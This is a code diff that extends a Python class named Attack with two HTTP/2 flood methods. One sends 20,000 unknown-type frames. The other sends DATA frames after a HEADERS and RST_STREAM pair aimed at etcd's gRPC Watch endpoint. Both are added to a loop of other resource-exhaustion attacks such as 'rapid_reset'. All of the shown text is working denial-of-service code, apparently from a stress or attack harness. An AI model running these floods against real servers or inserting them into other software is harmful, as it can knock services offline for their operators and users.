@@ -117,6 +117,14 @@ class Attack:
         chunk = b"".join(frame(PRIORITY, 0, 1 + 2 * i, b"\0\0\0\0\x10") for i in range(10000))
         self.flood(None, lambda st: chunk)
 
+    def unknown_frames(self):
+        chunk = frame(0x60, 0, 0, b"nothing") * 20000
+        self.flood(None, lambda st: chunk)
+
+    def frames_of_the_past(self):
+        chunk = frame(DATA, 0, 1) * 20000
+        self.flood(lambda s: frame(HEADERS, END_HEADERS, 1, headers(b"/etcdserverpb.Watch/Watch")) + frame(RST, 0, 1, b"\0\0\0\x08"), lambda st: chunk)
+
     def streams(self, per_stream, at_once=200):
         def more(state):
             first = state[1]
@@ -357,7 +365,7 @@ class Attack:
         self.flood(None, lambda st: chunk)
 
 
-COST_LOOP = ["empty_data", "pings", "settings", "window_updates", "priorities", "settings_of_all_streams", "goodbyes",
+COST_LOOP = ["empty_data", "pings", "settings", "window_updates", "priorities", "unknown_frames", "frames_of_the_past", "settings_of_all_streams", "goodbyes",
              "tall_trees", "rapid_reset", "continuations", "header_references",
              "small_calls", "renewals", "garbage", "deep_messages", "costly_txns", "hashes",
              "lease_lists", "lock_crowds"]
